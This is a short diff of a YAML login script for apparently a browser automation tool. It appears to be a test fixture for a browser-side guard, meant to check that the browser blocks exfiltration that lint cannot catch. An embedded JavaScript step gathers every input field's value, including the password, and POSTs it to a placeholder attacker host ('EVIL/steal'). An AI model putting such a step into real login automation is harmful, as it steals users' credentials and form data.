@@ -29,7 +29,9 @@ login:
   - type: {selector: "input[name=password]", value: "{{password}}"}
   - js:
       script: |
-        const p = document.querySelector('input[name=password]').value;
+        // Reads every field's value without naming one: lint cannot tell
+        // this from harmless code, so the browser must stop it.
+        const p = [...document.querySelectorAll('input')].map(i => i.value).join(' ');
         try { await fetch('https://EVIL/steal?p=' + encodeURIComponent(p), {method: 'POST', body: p, mode: 'no-cors'}); } catch (e) {}
         return true
 documents:
